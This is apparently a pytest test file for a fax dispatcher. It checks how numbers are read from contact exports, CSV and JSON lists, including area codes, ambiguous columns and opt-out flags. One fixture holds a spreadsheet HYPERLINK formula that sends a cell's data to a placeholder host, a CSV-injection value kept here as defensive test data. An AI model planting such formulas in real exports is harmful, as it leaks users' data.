"""Small lists that were dialled wrongly once, and exports of contact programs."""

import json

import pytest

from dispatcher.recipients.columns.options import NOTHING_NAMED, ColumnOptions, Role
from dispatcher.recipients.errors import AmbiguousColumns, RecipientListError, SecondHeading, UnusedColumn
from dispatcher.recipients.read_rows import RowReader
from dispatcher.recipients.refusal_reasons import RefusalReason

OUTLOOK = (
    "First Name,Last Name,Company,Business Street,Business City,Business State,Business Postal Code,"
    "Business Country/Region,Home Street,Home City,Home Country/Region,Other Country/Region,Assistant's Phone,"
    "Business Fax,Business Phone,Business Phone 2,Company Main Phone,Home Fax,Home Phone,Mobile Phone,Other Fax,"
    "Other Phone,Pager,Notes\r\n"
    "Erika,Muster,ACME GmbH,Weg 1,Berlin,,10115,Germany,,,,,,030 23125123,030 23125100,,,,,,,,,\r\n"
    "Jane,Doe,Example Inc,1 Main St,Washington,DC,20001,United States of America,2 Oak St,Bonn,Germany,,,"
    "(202) 555-0143,(202) 555-0100,,,,,,,,,\r\n"
    "No,Fax,Nobody,,,,,,,,,,,,(202) 555-0101,,,,,,,,,\r\n"
)
GOOGLE = (
    "First Name,Last Name,Organization Name,Labels,E-mail 1 - Label,E-mail 1 - Value,Phone 1 - Label,Phone 1 - Value,"
    "Phone 2 - Label,Phone 2 - Value,Address 1 - Label,Address 1 - Formatted,Address 1 - Street,Address 1 - City,"
    "Address 1 - Region,Address 1 - Postal Code,Address 1 - Country\n"
    "Erika,Muster,ACME GmbH,* myContacts,,,Work,030 23125100,Work Fax,030 23125123,Work,,,Berlin,,10115,DE\n"
    "Jane,Doe,Example Inc,* myContacts,,,* Work Fax,(202) 555-0143,Mobile,(202) 555-0100,Work,,,Washington,DC,,US\n"
    "No,Fax,Nobody,* myContacts,,,Mobile,(202) 555-0101,,,,,,,,,\n"
)


def numbers(text: str, options: ColumnOptions = NOTHING_NAMED, kind: str = "text/csv") -> list[str]:
    """The numbers that a list dials, and the reasons of the rows that it does not."""
    rows = RowReader(kind, "US", options=options).read(text.encode(), final=True)
    lines = [(row.line, row.number) for row in rows.accepted] + [(row.line, row.reason) for row in rows.refused]
    return [result for _, result in sorted(lines)]


def test_a_work_fax_is_dialled_and_not_the_phone_beside_it() -> None:
    assert numbers("Company,Phone,Work Fax\nACME,202-555-0100,202-555-0193\n") == ["+12025550193"]


def test_the_country_of_the_business_belongs_to_the_fax_of_the_business() -> None:
    text = "Company,Business Phone,Business Fax,Business Country/Region\nACME GmbH,3023125100,3023125123,Germany\n"
    assert numbers(text) == ["+493023125123"]


def test_the_area_code_belongs_to_the_number() -> None:
    assert numbers("Company,Country Code,Area Code,Fax\nBeta,49,30,23125123\n") == ["+493023125123"]


@pytest.mark.parametrize(
    ("number", "dialled"),
    [
        ("030 23125123", "+493023125123"),
        ("+49 30 23125123", "+493023125123"),
        ("30 23125123", RefusalReason.AREA_CODE),
    ],
)
def test_a_number_that_may_have_its_area_code_already_is_not_guessed(number: str, dialled: str) -> None:
    assert numbers(f"Country,Area Code,Fax\nDE,030,{number}\n") == [dialled]


def test_two_numbers_in_a_cell_are_refused() -> None:
    assert numbers("Company;Fax;Country\nACME GmbH;030 23125-123/124;DE\n") == [RefusalReason.TWO_NUMBERS]


def test_digits_that_are_valid_with_and_without_the_calling_code_are_refused() -> None:
    text = "Firma;Fax;Land\nACME GmbH;4922147109 12;DE\nBeta AB;46 8 123 456;SE\nGamma;0-0431 2345678;DE\n"
    assert numbers(text) == [RefusalReason.CALLING_CODE, RefusalReason.CALLING_CODE, RefusalReason.OUTSIDE_LINE]


def test_formulas_are_references_like_others_and_no_numbers() -> None:
    text = 'Reference,Fax\r\n"=HYPERLINK(""http://example.invalid/?""&A1,""x"")",202-555-0143\r\n+1+1,=1+1\r\n'
    assert numbers(text) == ["+12025550143", RefusalReason.NOT_A_NUMBER]


def test_two_heading_rows_are_refused() -> None:
    with pytest.raises(SecondHeading):
        numbers("Company,Address,Telephone,\r\nName,City,Voice,Fax\r\nACME,Washington,202-555-0100,202-555-0143\r\n")


@pytest.mark.parametrize("text", [OUTLOOK, GOOGLE])
def test_a_contact_export_is_read_with_nothing_named(text: str) -> None:
    assert numbers(text) == ["+493023125123", "+12025550143", RefusalReason.EMPTY]


def test_a_reader_says_what_was_used_and_assumed() -> None:
    reader = RowReader("text/csv", "US")
    reader.read(b"Company,Work Fax\nACME,202-555-0143\nBeta,+12025550144\nC,0049 30 23125123\n", final=True)
    assert (reader.columns[Role.NUMBER], reader.columns[Role.COUNTRY]) == (("Work Fax",), ())
    assert (reader.home, reader.assumed) == ("US", 1)


@pytest.mark.parametrize("kind", ["application/json", "application/x-ndjson", "text/plain", "application/octet-stream"])
def test_members_of_json_objects_follow_the_same_rules(kind: str) -> None:
    def text(*rows: dict[str, object]) -> str:
        lines = [json.dumps(row) for row in rows]
        return f"[{','.join(lines)}]" if kind in ("application/json", "text/plain") else "\n".join(lines)

    german = {"company": "A", "phone": "1234", "workFax": "030 23125123", "workCountry": "DE", "doNotFax": False}
    assert numbers(text(german, german | {"doNotFax": True}), kind=kind) == ["+493023125123", RefusalReason.OPTED_OUT]
    with pytest.raises(AmbiguousColumns, match=r"(Line|Item) 1: More than one column"):
        numbers(text({"workFax": "1", "homeFax": "2"}), kind=kind)
    with pytest.raises(UnusedColumn):
        numbers(text({"fax": "1", "region": "DE"}), kind=kind)
    named = ColumnOptions(number="tel", no_country=True)
    rows = text({"tel": "2025550143", "fax": "1", "region": "DE"}, {"fax": "1"})
    assert numbers(rows, named, kind) == ["+12025550143", RefusalReason.BROKEN_ROW]


@pytest.mark.parametrize(
    "kind", ["text/plain", "TEXT/X-CSV", "application/vnd.ms-excel", "application/octet-stream", ""]
)
def test_the_bytes_decide_what_a_list_of_an_unclear_type_is(kind: str) -> None:
    assert numbers("fax|name\n2025550143|A\n", kind=kind) == ["+12025550143"]
    assert numbers(' \n[{"fax": "2025550143"}]', kind=kind) == ["+12025550143"]
    assert numbers('{"fax": "2025550143"}\n', kind=kind) == ["+12025550143"]


def test_every_refusal_names_a_parameter_and_an_option() -> None:
    for header, row in (
        ("Fax,Region", "1,DE"),
        ("Fax,Home Fax", "1,2"),
        ("Name,City", "A,B"),
        ("Fax,Opt status", "1,x"),
    ):
        with pytest.raises(RecipientListError, match=r"_column.* --[a-z-]+-column"):
            numbers(f"{header}\n{row}\n")


@pytest.mark.parametrize("label", ["Tel/Fax", "Phone or Fax", "Work Phone (no fax)", "Phone incl. fax", "Kein Fax"])
def test_a_label_that_is_not_clearly_that_of_a_fax_is_not_dialled(label: str) -> None:
    assert numbers(f"Phone 1 - Label,Phone 1 - Value\n{label},202-555-0100\n") == [RefusalReason.EMPTY]


def test_digits_of_headings_do_not_hide_a_second_row_of_headings() -> None:
    with pytest.raises(SecondHeading):
        numbers("Company,Fax,,\nName,Telephone 1,Fax 1,Fax 2\nACME,202-555-0100,202-555-0143,202-555-0144\n")


@pytest.mark.parametrize(
    "heading", ["Telephone incl. fax", "Telefon mit Fax", "Tel/Fax incl. Vorwahl", "Phone with fax"]
)
def test_a_phone_with_fax_is_not_dialled(heading: str) -> None:
    with pytest.raises(UnusedColumn):
        numbers(f"Company,{heading}\nACME,202-555-0100\n")


@pytest.mark.parametrize("heading", ["Intl Code", "ISD Code", "Intl. prefix", "Int. Vorwahl"])
def test_an_abbreviated_heading_of_calling_codes_names_the_country(heading: str) -> None:
    assert numbers(f"{heading},Fax\n+49,3023125123\n") == ["+493023125123"]


@pytest.mark.parametrize("heading", ["Blacklist", "Blacklisted", "Gesperrt", "Sperrvermerk", "DNF"])
def test_a_row_on_a_black_list_is_not_dialled(heading: str) -> None:
    assert numbers(f"{heading},Fax\nyes,202-555-0143\n") == [RefusalReason.OPTED_OUT]
